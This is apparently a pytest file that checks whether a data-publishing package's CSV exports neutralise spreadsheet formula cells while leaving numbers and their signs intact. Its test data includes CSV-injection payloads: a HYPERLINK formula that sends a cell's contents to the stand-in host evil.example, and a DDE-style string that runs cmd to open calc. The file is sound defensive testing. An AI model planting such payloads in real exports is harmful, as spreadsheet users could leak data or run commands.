"""Issue 23.9: cells that a spreadsheet would run as a formula are neutralised in every CSV export
(`<mart>.csv` and `<mart>.nl.csv`); numbers keep their sign. Real DuckDB COPY, real files."""

from __future__ import annotations

import csv

import duckdb
import pytest

from basismonitor.publish.exports import _columns, _ordered, _write_csv, _write_dutch_csv

DANGEROUS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+31 50 123", "-2+3", "\tTab", "\rCR"]
SAFE = ["Binnenstad", "'s-Hertogenbosch", "Wijk = centrum", ""]


@pytest.fixture
def con():
    con = duckdb.connect()
    con.execute("create schema marts")
    names = DANGEROUS + SAFE
    con.execute("create table marts.dim_area (area_code varchar, area_name varchar, "
                "value double, n bigint)")
    con.executemany("insert into marts.dim_area values (?, ?, ?, ?)",
                    [[f"BU{i:08d}", name, -1.5 * i, -i] for i, name in enumerate(names)])
    yield con
    con.close()


def _read(path, delimiter):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh, delimiter=delimiter))


@pytest.mark.parametrize("dutch", [False, True])
def test_formula_cells_are_neutralised_and_numbers_keep_their_sign(con, tmp_path, dutch):
    columns = _columns(con, "marts.dim_area")
    relation = _ordered("marts.dim_area", columns)
    path = tmp_path / ("dim_area.nl.csv" if dutch else "dim_area.csv")
    if dutch:
        _write_dutch_csv(con, relation, columns, path)
    else:
        _write_csv(con, relation, path)
    rows = _read(path, ";" if dutch else ",")
    names = [r["area_name"] for r in rows]
    for original in DANGEROUS:
        assert "'" + original in names, original
        assert original not in names
    for original in SAFE:
        assert original in names
    for row in rows:
        assert row["area_name"][:1] not in ("=", "+", "-", "@", "\t", "\r")
        number = float(row["value"].replace(",", ".")) if dutch else float(row["value"])
        assert number <= 0 and int(row["n"]) <= 0          # numbers untouched, sign kept
    assert any(r["value"].startswith("-") for r in rows)
